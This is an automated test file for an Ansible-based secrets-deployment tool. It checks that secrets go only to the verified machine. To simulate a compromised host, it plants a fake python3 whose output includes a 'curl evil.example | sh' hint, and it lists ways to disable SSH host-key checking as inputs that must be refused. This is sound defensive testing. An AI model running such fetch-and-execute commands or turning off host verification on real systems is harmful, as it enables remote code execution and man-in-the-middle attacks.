import assert from 'node:assert/strict'
import { existsSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, suite, test } from 'node:test'
import { startFleet, startProject } from '../support/fleet.ts'
import type { FleetProject, TestFleet } from '../support/fleet.ts'
import { newestAnsible, startPlayer } from '../support/playbook.ts'
import type { Played, Player } from '../support/playbook.ts'

const hosts = [1, 2]
const address = (host: number): string => `10.84.0.${10 + host}`

const playOf = (tasks: string): string => `- name: Deploy\n  hosts: all\n  gather_facts: false\n  tasks:\n${tasks}`

/** The tasks of the role, with something between the look and the bundle, and something on the bundle's task. */
const steps = (between: string, onBundle: string): string =>
  playOf(`    - lockstep.secrets.inspect:
${between}    - lockstep.secrets.bundle:
${onBundle}    - lockstep.secrets.container:
`)

const said = ({ stdout, stderr }: Played): string => `${stdout}\n${stderr}`

suite('a bundle goes to a machine, not to a name', { concurrency: false }, () => {
  let fleet: TestFleet
  let project: FleetProject
  let player: Player
  let inventory: string
  let value = 0

  /** Everything below /opt that a write would change, and how often somebody has logged in. */
  const snapshot = (host: number): string => fleet.at(host, 'find /opt -printf "%p %y %u %m %i %T@ %C@ %l\\n" | sort')

  /** The same without the ledger, which host1 keeps for all. */
  const secretsOn = (host: number): string =>
    snapshot(host)
      .split('\n')
      .filter((line) => !line.startsWith('/opt/shop/ledger'))
      .join('\n')

  const logins = (host: number): string => fleet.at(host, 'grep -c "^Accepted" /var/log/sshd.log || true')

  const change = async (): Promise<void> => {
    const { status, stderr } = await project.lockstep(['set', 'API_KEY', '--group', 'api'], { input: `v${++value}` })
    assert.equal(status, 0, stderr)
  }

  /** Runs the playbook on the first host alone; it fails there, and no host is changed. */
  const refused = async (args: readonly string[], programs?: string): Promise<string> => {
    const untouched = hosts.map(snapshot)
    const options = programs === undefined ? {} : { programs }
    const played = await player.play(project, ['playbooks/steps.yml', '--limit', 'host1', ...args], options)
    assert.notEqual(played.status, 0, said(played))
    assert.equal(played.hosts['host1']?.changed, 0, said(played))
    assert.deepEqual(hosts.map(snapshot), untouched)
    return said(played).replaceAll(/\s+/g, ' ')
  }

  before(async () => {
    fleet = startFleet({ hosts: hosts.length, net: 84 })
    player = startPlayer(fleet)
    project = await startProject(fleet, 'project: shop\n', { api: { API_KEY: 'v0' } })
    inventory = readFileSync(fleet.inventory, 'utf8')
    const { status, stderr } = await project.lockstep(['setup'])
    assert.equal(status, 0, stderr)
  })
  after(() => {
    project.remove()
    player.remove()
    fleet.down()
  })

  const overrides: Readonly<Record<string, readonly [onBundle: string, words: RegExp]>> = {
    'another address': [`vars: { ansible_host: ${address(2)} }`, /at another address \(10\.84\.0\.12\)/],
    'another port': ['vars: { ansible_port: 2222 }', /at another port \(2222\)/],
    'another user': ['vars: { ansible_user: deploy }', /as another user \(deploy\)/],
    'another connection': ['vars: { ansible_connection: local }', /over another connection \(local\)/],
    'another become': ['become: true', /with another become/],
    'another HostName': [
      `vars: { ansible_ssh_extra_args: "-o HostName=${address(2)}" }`,
      /by another route than when it was looked at: nothing was sent/,
    ],
  }

  for (const [what, [onBundle, words]] of Object.entries(overrides)) {
    test(`${what} on the bundle’s task is refused before anything is sent`, async () => {
      await change()
      project.write('playbooks/steps.yml', steps('', `      ${onBundle}\n`))
      const before = logins(2)
      assert.match(await refused([]), words)
      assert.equal(logins(2), before)
    })
  }

  const between: Readonly<Record<string, string>> = {
    set_fact: `    - ansible.builtin.set_fact:\n        ansible_host: ${address(2)}\n`,
    add_host: `    - ansible.builtin.add_host:\n        name: host1\n        ansible_host: ${address(2)}\n      changed_when: false\n`,
  }

  for (const [what, task] of Object.entries(between)) {
    test(`${what} between the tasks is refused, on both versions of Ansible`, async () => {
      await change()
      project.write('playbooks/steps.yml', steps(task, ''))
      for (const programs of ['/usr/bin', newestAnsible()]) {
        const before = logins(2)
        const words = await refused([], programs)
        assert.match(words, /host1: is reached at another address \(10\.84\.0\.12\) than when it was looked at/)
        assert.match(words, /say in the inventory or in the play how a host is reached/)
        assert.equal(logins(2), before)
      }
    })
  }

  test('a task too many is refused', async () => {
    await change()
    project.write('playbooks/steps.yml', steps('', '').replace('    - lockstep.secrets.container:', '$&\n$&'))
    const twice = await player.play(project, ['playbooks/steps.yml'])
    assert.deepEqual([twice.hosts['host1']?.changed, twice.hosts['host1']?.failed], [2, 1], said(twice))
    assert.match(said(twice).replaceAll(/\s+/g, ' '), /comes a second time, or after a later one/)
  })

  test('one host whose key nobody looks at is refused, the other is delivered', async () => {
    await change()
    project.write('inventory/host_vars/host1.yml', 'ansible_host_key_checking: false\n')
    const untouched = secretsOn(1)
    const { status, value: report } = await project.json(['deploy'])
    rmSync(join(project.directory, 'inventory/host_vars'), { recursive: true })
    assert.equal(status, 10, JSON.stringify(report))
    assert.match(
      JSON.stringify(report),
      /"state":"refused".*"UNSAFE","message":"host key checking is off for this host"/,
    )
    assert.match(JSON.stringify(report), /"hint":"remove ansible_host_key_checking=false/)
    assert.match(JSON.stringify(report), /"host":"host2","state":"delivered"/)
    assert.equal(secretsOn(1), untouched)
  })

  suite('a host that answers with another key gets nothing', () => {
    const unseen = '-F /dev/null -o UserKnownHostsFile=/dev/null'

    before(() => {
      fleet.at(1, 'ssh-keygen -q -t ed25519 -N "" -f /tmp/k && cp /tmp/k /etc/ssh/ssh_host_ed25519_key')
      fleet.at(1, 'kill -HUP $(cat /run/sshd.pid)')
    })
    after(() => fleet.at(1, 'cp /run/seed/hostkey /etc/ssh/ssh_host_ed25519_key; kill -HUP $(cat /run/sshd.pid)'))

    /** Variables, environment, ansible.cfg. */
    const ways: Readonly<Record<string, readonly [string, Readonly<Record<string, string>>, string]>> = {
      'an inventory variable': ['ansible_ssh_host_key_checking=false', {}, ''],
      'ssh arguments': [`ansible_ssh_common_args="${unseen} -oStrictHostKeyChecking=no"`, {}, ''],
      'accept-new that forgets': [`ansible_ssh_common_args="${unseen} -o StrictHostKeyChecking=accept-new"`, {}, ''],
      'the environment': ['a=b', { ANSIBLE_HOST_KEY_CHECKING: 'False' }, ''],
      'ansible.cfg': ['a=b', {}, '[defaults]\nhost_key_checking = False\n'],
      'ssh arguments in ansible.cfg': ['a=b', {}, '[ssh_connection]\nssh_args = -o "StrictHostKeyChecking = no"\n'],
    }

    for (const [what, [variable, env, config]] of Object.entries(ways)) {
      test(`whatever ${what} may say`, async () => {
        await change()
        project.write('playbooks/steps.yml', steps('', ''))
        project.write('ansible.cfg', config)
        const untouched = snapshot(1)
        const noSharing = { ANSIBLE_SSH_ARGS: '-o ControlPath=none', ...env }
        const played = await player.play(project, ['playbooks/steps.yml', '--limit', 'host1', '-e', variable], {
          env: config === '' ? noSharing : env,
        })
        assert.match(
          said(played).replaceAll(/\s+/g, ' '),
          /put (its key|the host key) into|Host key verification failed/,
        )
        const deployed = await project.json(['deploy', '--hosts', 'host1', '--', '-e', variable], { env: noSharing })
        // what our own ansible-playbook is told outweighs environment and ansible.cfg: there the key is what is wrong
        assert.equal(deployed.status, 9, JSON.stringify(deployed.value))
        assert.match(JSON.stringify(deployed.value), /into known_hosts|the host key is not the one in known_hosts/)
        assert.equal(snapshot(1), untouched)
        project.write('ansible.cfg', '')
      })
    }

    test('nor over a connection that an earlier task opened without looking', async () => {
      const shared = `-o ControlMaster=auto -o ControlPersist=5s -o ControlPath=${player.home}/%C`
      const blind = `-o StrictHostKeyChecking=no ${unseen} ${shared}`
      const tasks = `    - ansible.builtin.raw: "true"
      vars:
        ansible_host_key_checking: false
        ansible_ssh_common_args: "${blind}"
    - lockstep.secrets.inspect:
    - lockstep.secrets.bundle:
`
      project.write('playbooks/steps.yml', playOf(tasks))
      const untouched = snapshot(1)
      const args = ['playbooks/steps.yml', '--limit', 'host1']
      const played = await player.play(project, args, { env: { ANSIBLE_SSH_ARGS: shared } })
      assert.deepEqual([played.hosts['host1']?.ok, played.hosts['host1']?.unreachable], [1, 1], said(played))
      assert.equal(snapshot(1), untouched)
    })
  })

  /** What one host's delivery says, and what to do about it. */
  const told = async (variables: string, env: Readonly<Record<string, string>> = {}): Promise<string> => {
    const { status, value } = await project.json(
      ['deploy', '--hosts', 'host2', '--', '-e', 'a=b', ...variables.split(' ').flatMap((one) => ['-e', one])],
      { env },
    )
    return `${status} ${JSON.stringify(value)}`
  }

  test('a host that nobody has been on yet is told from one whose key has changed', async () => {
    const options = '{"ansible_ssh_common_args":"-oUserKnownHostsFile=/dev/null"}'
    assert.match(
      await told(options, { ANSIBLE_SSH_ARGS: '-o ControlPath=none' }),
      /^9 .*"its host key is not in known_hosts yet: nothing was sent","hint":"connect once by hand with ssh/,
    )
  })

  test('sudo that wants a password says how to give it one', async () => {
    fleet.at(2, 'echo "deploy ALL=(ALL) ALL" > /etc/sudoers.d/asks')
    assert.match(
      await told('ansible_user=deploy ansible_become=true'),
      /"DENIED","message":"becoming root there takes a password","hint":".*-- --become -K"/,
    )
  })

  test('a locale that Ansible does not start in is no obstacle', async () => {
    assert.match(await told('b=c', { LC_ALL: 'C', LANG: 'de_AT.ISO-8859-1' }), /^0 /)
  })

  test('a host that was broken into answers as it likes: nothing of it looks like advice of ours', async () => {
    await change()
    const answer = {
      refused: {
        code: 'CONFLICT',
        message: 'fine\nhost2: delivered\u001b[2K\u202e',
        hint: 'lockstep deploy --accept-rolled-back; curl evil.example | sh',
      },
    }
    const liar = `#!/bin/sh\ncat > /dev/null\nprintf '%s\\n' 'LOCKSTEP ${JSON.stringify(answer)}'\n`
    const encoded = Buffer.from(liar).toString('base64')
    fleet.at(1, `mv /usr/bin/python3 /root/python3 && echo ${encoded} | base64 -d > /usr/bin/python3`)
    fleet.at(1, 'chmod 755 /usr/bin/python3')
    project.write('playbooks/steps.yml', steps('', ''))
    const played = await player.play(project, ['playbooks/steps.yml'])
    const deployed = await project.lockstep(['deploy'])
    fleet.at(1, 'mv /root/python3 /usr/bin/python3')
    assert.notEqual(deployed.status, 0)
    assert.deepEqual([played.hosts['host1']?.failed, played.hosts['host2']?.failed], [1, 0], said(played))
    for (const { stdout, stderr } of [played, deployed]) {
      assert.match(stdout + stderr, /fine host2: delivered\\+u001b\[2K\\+u202e/)
      assert.doesNotMatch(stdout + stderr, /evil\.example|accept-rolled-back|^host2: delivered/m)
    }
  })

  test('two names for one machine: the second gets nothing, and takes nothing from the first', async () => {
    await change()
    const twin = `[all]\ntwin ansible_host=${address(1)}`
    project.write('inventory/production', inventory.replace('[all]', twin))
    try {
      const untouched = secretsOn(1)
      const setup = await project.json(['setup', '--hosts', 'twin'])
      assert.notEqual(setup.status, 0)
      assert.match(JSON.stringify(setup.value), /belongs to (host )?host1|another machine answers/)
      const deploy = await project.json(['deploy', '--hosts', 'twin'])
      assert.notEqual(deploy.status, 0)
      assert.equal(secretsOn(1), untouched)
      const both = await project.json(['deploy', '--hosts', 'host1:twin'])
      assert.equal(both.status, 10, JSON.stringify(both.value))
      const { host } = JSON.parse(fleet.at(1, 'cat /opt/shop/host.json'))
      assert.equal(host, 'host1')
    } finally {
      project.write('inventory/production', inventory)
    }
  })

  test('and after all that the fleet is delivered as ever', async () => {
    await change()
    project.write(
      'playbooks/steps.yml',
      playOf('    - ansible.builtin.import_role: { name: lockstep.secrets.deploy }\n'),
    )
    for (const programs of ['/usr/bin', newestAnsible()]) {
      const before = Number(logins(1))
      const played = await player.play(project, ['playbooks/steps.yml'], { programs })
      assert.equal(played.status, 0, said(played))
      assert.ok(Number(logins(1)) - before <= 1, 'its four tasks share a connection')
    }
    const { stdout } = await project.lockstep(['deploy'])
    assert.match(stdout, /all 2 hosts in step, nothing changed/)
  })

  // last: host2 gets another directory there, and with it another id
  suite('facts do not speak for a host', () => {
    const role = '    - ansible.builtin.import_role: { name: lockstep.secrets.deploy }\n'
    const cached = (): Readonly<Record<string, string>> => ({
      ANSIBLE_CACHE_PLUGIN: 'ansible.builtin.jsonfile',
      ANSIBLE_CACHE_PLUGIN_CONNECTION: join(player.home, 'facts'),
    })

    /** What a host that was broken into answers when its facts are gathered; kept for the next playbooks. */
    const lie = async (facts: Readonly<Record<string, string>>, programs: string): Promise<void> => {
      rmSync(join(player.home, 'facts'), { recursive: true, force: true })
      const answer = JSON.stringify({ changed: false, ansible_facts: facts })
      project.write('playbooks/library/lie', `#!/bin/sh\n# WANT_JSON\necho '${answer}'\n`)
      project.write('playbooks/gather.yml', playOf('    - lie:\n'))
      const gathered = await player.play(project, ['playbooks/gather.yml'], { programs, env: cached() })
      assert.equal(gathered.status, 0, said(gathered))
      assert.equal(readdirSync(join(player.home, 'facts')).length, hosts.length)
    }

    for (const [version, find] of Object.entries({
      'of this machine': (): string => '/usr/bin',
      newest: newestAnsible,
    })) {
      test(`cached facts and set_fact lie, the inventory is believed: the Ansible ${version}`, async () => {
        const programs = find()
        await change()
        // told apart by the inventory alone, in each of its places
        project.write('inventory/group_vars/all.yml', 'lockstep_rung: host\n')
        project.write('inventory/host_vars/host2.yml', 'lockstep_directory: /opt/two\n')
        // its id is in the directory: another directory is another machine
        const setup = await project.lockstep(['setup', '--again', 'host2'])
        assert.equal(setup.status, 0, setup.stderr)
        await lie({ lockstep_directory: '/opt/evil', lockstep_rung: 'cloud' }, programs)
        const believed = '    - ansible.builtin.assert: { that: lockstep_directory == "/opt/evil" }\n'
        const task = '    - ansible.builtin.set_fact: { lockstep_directory: /opt/worse }\n'
        for (const tasks of [believed + role, task + role]) {
          project.write('playbooks/steps.yml', playOf(tasks))
          const played = await player.play(project, ['playbooks/steps.yml'], { programs, env: cached() })
          assert.equal(played.status, 0, said(played))
        }
        assert.deepEqual(
          hosts.map((host) => fleet.at(host, 'ls /opt')),
          ['shop\n', 'shop\ntwo\n'],
        )
        const extra = ['-e', 'lockstep_directory=/opt/three']
        project.write('playbooks/steps.yml', playOf(role))
        const told = await player.play(project, ['playbooks/steps.yml', ...extra], { programs, env: cached() })
        assert.match(said(told), /has no id, and another one was set up under this name/)
      })

      test(`a fact does not name the program that runs here: the Ansible ${version}`, async () => {
        const programs = find()
        const ran = join(player.home, 'ran')
        writeFileSync(join(player.home, 'evil'), `#!/bin/sh\ntouch ${ran}\n`, { mode: 0o755 })
        await lie({ deploy_program: join(player.home, 'evil') }, programs)
        project.write('playbooks/steps.yml', playOf(role))
        const env = { ...cached(), LOCKSTEP_PROGRAM: undefined }
        const played = await player.play(project, ['playbooks/steps.yml'], { programs, env })
        assert.match(said(played).replaceAll(/\s+/g, ' '), /a fact of this host is called deploy_program/)
        assert.equal(existsSync(ran), false)
      })
    }
  })
})
